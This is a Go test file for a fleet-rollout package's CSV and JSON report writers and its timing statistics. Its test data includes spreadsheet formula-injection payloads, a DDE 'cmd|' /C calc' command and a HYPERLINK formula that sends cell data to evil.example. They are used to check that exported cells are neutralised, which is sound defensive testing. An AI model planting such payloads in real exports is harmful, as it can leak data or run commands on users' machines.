package fleet

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/afterhours-go/afterhours/internal/fakeclock"
)

// sampleRecords has every outcome and the awkward strings CSV must quote.
func sampleRecords() []Record {
	return []Record{
		{ID: "web-01", Group: "web", Tags: []string{"uk", "retail"}, Outcome: Succeeded, Phase: "verify", Attempts: 1,
			Start: t0, End: t0.Add(90 * time.Second)},
		{ID: "web-02", Group: "web", Outcome: Failed, Phase: "patch", Attempts: 3,
			Start: t0.Add(time.Nanosecond), End: t0.Add(2*time.Minute + 123456789), Error: "exit status 1: \"dpkg\" lock, held\r\nby pid 42"},
		{ID: "db,1", Group: "db \"main\"", Outcome: Critical, Phase: "drain", Attempts: 1,
			Start: t0, End: t0.Add(time.Second), Error: "node would not drain: 3 pods, ünïcode ✓"},
		{ID: "db-2", Group: "db", Outcome: Stopped, Phase: "drain", Attempts: 1, Start: t0, End: t0.Add(3 * time.Second),
			Error: "rollout stopped by a critical failure"},
		{ID: "k1", Outcome: Killed, Phase: "patch", Attempts: 2, Start: t0, End: t0.Add(4 * time.Second), Error: "fleet: rollout killed: ctrl-c"},
		{ID: "k2", Outcome: Abandoned, Phase: "patch", Attempts: 1, Start: t0, End: t0.Add(5 * time.Second), Error: "hung"},
		{ID: "old", Outcome: Succeeded, Phase: "verify", Attempts: 1, Start: t0.Add(-time.Hour), End: t0.Add(-time.Hour + time.Second), Resumed: true},
		{ID: "run", Outcome: Running, Phase: "patch", Attempts: 1, Start: t0},
		{ID: "todo", Outcome: Pending},
		{ID: "=cmd|' /C calc'!A0", Outcome: Pending},
		{ID: "i1", Outcome: Interrupted, Phase: "patch", Attempts: 1, Start: t0, Error: "the rollout's process ended while it ran"},
	}
}

func TestCSVRoundTrip(t *testing.T) {
	recs := sampleRecords()
	var buf bytes.Buffer
	if err := WriteCSV(&buf, recs); err != nil {
		t.Fatal(err)
	}
	// encoding/csv, strict, reads it as a table of the right shape.
	cr := csv.NewReader(bytes.NewReader(buf.Bytes()))
	cr.FieldsPerRecord = len(csvHeader)
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv: %v", err)
	}
	if len(rows) != len(recs)+1 || strings.Join(rows[0], ",") != "id,group,tags,outcome,phase,attempts,start,end,duration_s,error,resumed" {
		t.Fatalf("%d rows, header %q", len(rows), rows[0])
	}
	if rows[2][9] != "exit status 1: \"dpkg\" lock, held\nby pid 42" || rows[2][8] != "120.123457" || rows[2][6] != "2026-11-24T01:00:00.000000001Z" {
		t.Errorf("row 2: %q", rows[2])
	}
	if rows[9][8] != "" || rows[9][6] != "" {
		t.Errorf("pending row has times: %q", rows[9])
	}
	if !strings.HasSuffix(buf.String(), "\r\n") || !strings.Contains(buf.String(), "resumed\r\n") {
		t.Error("lines do not end in CRLF")
	}
	back, err := ReadCSV(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	// RFC 4180 readers drop a carriage return before a line feed, even
	// quoted; WriteCSV writes every line break as a line feed.
	recs[1].Error = strings.ReplaceAll(recs[1].Error, "\r\n", "\n")
	if !reflect.DeepEqual(back, recs) {
		t.Errorf("round trip:\n got %+v\nwant %+v", back, recs)
	}
}

func TestReadCSVErrors(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, sampleRecords()[:1]); err != nil {
		t.Fatal(err)
	}
	good := buf.String()
	for name, text := range map[string]string{
		"empty":       "",
		"bad header":  strings.Replace(good, "outcome", "result", 1),
		"bad outcome": strings.Replace(good, "succeeded", "fine", 1),
		"bad time":    strings.Replace(good, "2026-11-24T01:00:00Z", "yesterday", 1),
		"bad count":   strings.Replace(good, ",1,2026", ",one,2026", 1),
		"short row":   good + "x,y\r\n",
	} {
		if _, err := ReadCSV(strings.NewReader(text)); !errors.Is(err, ErrInvalidReport) {
			t.Errorf("%s: %v, want ErrInvalidReport", name, err)
		}
	}
}

func TestJSONRoundTrip(t *testing.T) {
	recs := sampleRecords()
	rep := &Report{
		Status: Status{State: StateCritical, Reason: "critical failure: target db,1 failed in phase drain", Selector: "uk,!kiosk",
			Started: t0, Ended: t0.Add(time.Hour), At: t0.Add(time.Hour), Total: len(recs), Resumed: 1,
			Concurrency: 100, Budget: 5, GroupLimit: Percent(25), FileError: "disk full"},
		Stats:   Summarize(recs),
		Targets: recs,
	}
	for _, rec := range recs {
		rep.Status.Counts.add(rec.Outcome, 1)
	}
	var buf bytes.Buffer
	if err := rep.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	var back Report
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
		t.Fatalf("encoding/json: %v", err)
	}
	if !reflect.DeepEqual(&back, rep) {
		t.Errorf("round trip:\n got %+v\nwant %+v", back, *rep)
	}
	for _, want := range []string{`"outcome": "critical"`, `"state": "critical"`, `"group_limit": "25%"`, `"p90": "2m0.123456788s"`} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("JSON lacks %s", want)
		}
	}
	// The failed list, for a ticket, round-trips too.
	failed := rep.Failed()
	b, err := json.Marshal(failed)
	if err != nil {
		t.Fatal(err)
	}
	var backFailed []Record
	if err := json.Unmarshal(b, &backFailed); err != nil || !reflect.DeepEqual(backFailed, failed) {
		t.Errorf("failed list round trip: %v", err)
	}
	if _, err := ReadReport(strings.NewReader(`{"targets":[{"id":"a","outcome":"meh"}]}`)); !errors.Is(err, ErrInvalidReport) {
		t.Errorf("bad outcome: %v", err)
	}
	if _, err := ReadReport(strings.NewReader(`{"targets":[{"id":"a"},{"id":"a"}]}`)); !errors.Is(err, ErrInvalidReport) {
		t.Errorf("repeated ID: %v", err)
	}
}

func TestFailedList(t *testing.T) {
	rep := &Report{Targets: sampleRecords()}
	var got []string
	for _, rec := range rep.Failed() {
		got = append(got, rec.ID)
	}
	want := []string{"web-02", "db,1", "db-2", "k1", "k2", "i1"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Failed() = %v, want %v", got, want)
	}
}

func TestSummarize(t *testing.T) {
	var recs []Record
	for i := 1; i <= 100; i++ {
		o := Succeeded
		if i%10 == 0 {
			o = Failed
		}
		recs = append(recs, Record{ID: string(rune(i)), Outcome: o, Start: t0, End: t0.Add(time.Duration(i) * time.Second)})
	}
	recs = append(recs, Record{ID: "p", Outcome: Pending}, Record{ID: "r", Outcome: Running, Start: t0.Add(-time.Minute)})
	st := Summarize(recs)
	want := Durations{Count: 100, Min: time.Second, Mean: 50500 * time.Millisecond,
		P50: 50 * time.Second, P90: 90 * time.Second, P99: 99 * time.Second, Max: 100 * time.Second}
	if st.Durations != want {
		t.Errorf("durations %+v, want %+v", st.Durations, want)
	}
	if st.Total != 102 || st.Ran != 100 || st.Counts.Succeeded != 90 || st.Counts.Failed != 10 || st.SuccessRate != 0.9 {
		t.Errorf("stats %+v", st)
	}
	if !st.First.Equal(t0.Add(-time.Minute)) || !st.Last.Equal(t0.Add(100*time.Second)) {
		t.Errorf("first %v, last %v", st.First, st.Last)
	}
	small := Summarize([]Record{{ID: "a", Outcome: Succeeded, Start: t0, End: t0.Add(3 * time.Second)}, {ID: "b", Outcome: Killed, Start: t0, End: t0.Add(time.Second)}})
	if d := small.Durations; d.P50 != time.Second || d.P90 != 3*time.Second || d.P99 != 3*time.Second || small.SuccessRate != 0.5 {
		t.Errorf("two records: %+v", small)
	}
	if empty := Summarize(nil); empty.Durations != (Durations{}) || empty.SuccessRate != 0 {
		t.Errorf("no records: %+v", empty)
	}
}

// TestRecordTimes: with a clock the test moves, every start and end in the
// report is exact, and so are the statistics.
func TestRecordTimes(t *testing.T) {
	clk := fakeclock.NewManual(t0)
	phases := []Phase{
		{Name: "drain", Run: func(context.Context, Target) error { clk.Advance(time.Second); return nil }},
		{Name: "patch", Run: func(_ context.Context, tg Target) error {
			d := map[string]time.Duration{"a": 10 * time.Second, "b": 20 * time.Second, "c": 30 * time.Second}[tg.ID]
			clk.Advance(d)
			if tg.ID == "b" {
				return errBoom
			}
			return nil
		}},
	}
	r := mustRollout(t, []Target{{ID: "a"}, {ID: "b"}, {ID: "c"}}, phases, WithClock(clk), WithErrorBudget(Count(1)))
	if err := r.Run(context.Background()); err != nil {
		t.Fatal(err)
	}
	rep := r.Report()
	want := []Record{
		{ID: "a", Outcome: Succeeded, Phase: "patch", Attempts: 1, Start: t0, End: t0.Add(11 * time.Second)},
		{ID: "b", Outcome: Failed, Phase: "patch", Attempts: 1, Start: t0.Add(11 * time.Second), End: t0.Add(32 * time.Second), Error: "boom"},
		{ID: "c", Outcome: Succeeded, Phase: "patch", Attempts: 1, Start: t0.Add(32 * time.Second), End: t0.Add(63 * time.Second)},
	}
	if !reflect.DeepEqual(rep.Targets, want) {
		t.Errorf("records:\n got %+v\nwant %+v", rep.Targets, want)
	}
	if !rep.Status.Started.Equal(t0) || !rep.Status.Ended.Equal(t0.Add(63*time.Second)) || rep.Status.Elapsed() != 63*time.Second {
		t.Errorf("status times %v - %v", rep.Status.Started, rep.Status.Ended)
	}
	if d := rep.Stats.Durations; d.P50 != 21*time.Second || d.Max != 31*time.Second || d.Min != 11*time.Second {
		t.Errorf("durations %+v", d)
	}
}

var negativeNumber = regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`)

// TestCSVFormulaSafe checks that no cell of a CSV report starts a formula
// when a spreadsheet opens it (issue 11, item 15), that ReadCSV gives back
// every record as it was, a value that itself starts with "'" included, and
// that the JSON report carries the strings as they are.
func TestCSVFormulaSafe(t *testing.T) {
	recs := []Record{
		{ID: `=HYPERLINK("http://evil.example/?"&A1,"details")`, Group: "+g", Tags: []string{"@x", "-y"}, Outcome: Failed,
			Phase: "-patch", Attempts: 1, Start: t0, End: t0.Add(time.Second), Error: "-2+3+cmd|' /C calc'!A0"},
		{ID: "'already-quoted", Group: "''", Outcome: Failed, Phase: "\tpatch", Attempts: 2, Start: t0, End: t0.Add(time.Second),
			Error: "\r=1+1"},
		{ID: "-1", Outcome: Killed, Phase: "@verify", Attempts: 1, Start: t0, End: t0.Add(time.Second), Error: "=1"},
		// A clock stepped back: a negative duration is a number, not text.
		{ID: "stepped", Outcome: Succeeded, Attempts: 1, Start: t0, End: t0.Add(-250 * time.Millisecond)},
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, recs); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell == "" {
				continue
			}
			switch cell[0] {
			case '=', '+', '@', '\t', '\r':
				t.Errorf("row %d %s: %q starts a formula", i+1, csvHeader[j], cell)
			case '-':
				// A plain negative number is a number to a spreadsheet.
				if !negativeNumber.MatchString(cell) {
					t.Errorf("row %d %s: %q starts with '-'", i+1, csvHeader[j], cell)
				}
			}
		}
	}
	if want := `'=HYPERLINK("http://evil.example/?"&A1,"details")`; rows[1][0] != want {
		t.Errorf("id %q, want %q", rows[1][0], want)
	}
	if rows[1][2] != "'@x -y" || rows[2][0] != "''already-quoted" || rows[2][1] != "'''" || rows[3][0] != "-1" || rows[4][8] != "-0.250000" {
		t.Errorf("rows %q", rows[1:])
	}
	back, err := ReadCSV(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	recs[1].Error = "\n=1+1" // line breaks are written as line feeds
	if !reflect.DeepEqual(back, recs) {
		t.Errorf("round trip:\n got %+v\nwant %+v", back, recs)
	}

	js, err := json.Marshal(recs[0])
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(js), `"id":"=HYPERLINK(`) {
		t.Errorf("JSON escapes: %s", js)
	}
}

// FuzzCSVRoundTrip checks that any record WriteCSV writes reads back as it
// was, whatever its strings start with, that no cell starts a formula, and
// that ReadCSV never panics on what it reads.
func FuzzCSVRoundTrip(f *testing.F) {
	f.Add("=1+1", "+g", "@tag", "-patch", "'err", []byte("id,x\r\n"))
	f.Add("-1", "", "", "", "\t=1", []byte{})
	f.Fuzz(func(t *testing.T, id, group, tag, phase, errText string, raw []byte) {
		_, _ = ReadCSV(bytes.NewReader(raw))
		rec := Record{ID: id, Group: group, Outcome: Failed, Phase: phase, Attempts: 1, Start: t0, End: t0.Add(time.Second), Error: errText}
		if tag != "" && !strings.Contains(tag, " ") {
			rec.Tags = []string{tag}
		}
		var buf bytes.Buffer
		if err := WriteCSV(&buf, []Record{rec}); err != nil {
			return // not UTF-8 or the like: encoding/csv refuses it
		}
		rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
		if err != nil {
			t.Fatalf("encoding/csv: %v", err)
		}
		for _, cell := range rows[1] {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) || cell != "" && cell[0] == '-' && !negativeNumber.MatchString(cell) {
				t.Fatalf("cell %q starts a formula", cell)
			}
		}
		back, err := ReadCSV(bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatalf("ReadCSV: %v", err)
		}
		rec.Error = oneNewline.Replace(rec.Error)
		// encoding/csv reads a lone carriage return inside a field, or at
		// the end of a line, as a line feed or not at all.
		if strings.ContainsRune(id+group+tag+phase, '\r') {
			return
		}
		if !reflect.DeepEqual(back, []Record{rec}) {
			t.Fatalf("round trip:\n got %+v\nwant %+v", back, []Record{rec})
		}
	})
}
